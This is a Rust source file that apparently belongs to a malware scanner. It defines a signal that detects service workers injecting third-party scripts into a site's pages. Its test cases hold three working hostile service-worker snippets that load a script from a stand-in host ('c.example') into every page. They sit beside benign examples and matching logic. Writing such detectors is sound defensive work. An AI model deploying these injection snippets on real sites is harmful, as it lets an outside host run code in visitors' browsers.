//! `script-put-in-by-worker`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::taint::{Mark, Sink};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "script-put-in-by-worker",
    description: "A service worker inserts a script into this site's pages.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::WorkerFetch]),
        one(&[Atom::AnswerBody, Atom::RequestCopied]),
        one(&[Atom::ScriptElement]),
    ],
    within: 300,
    only_if: Some(puts_in),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"self.addEventListener('fetch',e=>e.respondWith(fetch(e.request).then(r=>r.text()).then(t=>new Response(t.replace('</head>','<script src=//c.example/a.js></script></head>')))))"#,
            r#"self.addEventListener('fetch',e=>{e.respondWith(fetch(e.request).then(async r=>new Response((await r.text()).replace('</body>','<script src="https://c.example/k.js"></script></body>'),{headers:r.headers})))})"#,
            r#"self.addEventListener('fetch',e=>{e.respondWith(fetch(e.request).then(async r=>{const t=await r.text();return new Response(t+'<script src="https://c.example/k.js"></script>',{headers:r.headers})}))})"#,
        ],
        without: &[
            r#"self.addEventListener('fetch',e=>e.respondWith(caches.match(e.request).then(r=>r||fetch(e.request))))"#,
            r#"self.addEventListener('fetch',e=>e.respondWith(fetch(e.request).then(r=>r.text()).then(t=>new Response(t.replace('{{user}}',name)))))"#,
            r#"self.addEventListener('fetch',e=>e.respondWith(fetch(e.request).then(r=>r.text()).then(t=>new Response(t+'<script src="/reload.js"></script>'))))"#,
        ],
    },
};

/// Whether a script is what replaces a part of a page.
fn puts_in(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = held.first..=held.last.saturating_add(NEAR);
    evidence.flows.iter().any(|flow| {
        flow.sink == Sink::Replaced && near.contains(&flow.at) && flow.marks.has(Mark::ScriptElement)
    }) || writes_tag(Near::new(evidence, held, NEAR as usize))
        || appends_tag(Near::new(evidence, held, NEAR as usize))
}

/// Whether a page is answered with a script of another host behind it: `new Response(page + '<script src="https://…')`.
fn appends_tag(near: Near<'_>) -> bool {
    near.words(&["Response"]).filter_map(|at| near.arguments(at)).any(|mut arguments| {
        arguments.any(|at| {
            near.is(at.wrapping_sub(1), b'+')
                && matches!(near.kind(at.wrapping_sub(2)), Some(Kind::Name | Kind::Member | Kind::Op))
                && near.text_at(at).is_some_and(|text| text.contains("<script") && text.contains("//"))
        })
    })
}

/// Whether the end of a part of a page is replaced by a script of another host: `text.replace('</body>', '<script src="https://…')`.
fn writes_tag(near: Near<'_>) -> bool {
    near.words(&["replace"]).any(|at| {
        near.text_at(at + 2).is_some_and(|text| {
            ["</body", "</head", "<head", "<body"].iter().any(|tag| text.starts_with(tag))
        }) && near.text_at(at + 4).is_some_and(|text| text.contains("<script") && text.contains("//"))
    })
}

/// Items after the place in which the page may be changed.
const NEAR: u32 = 100;
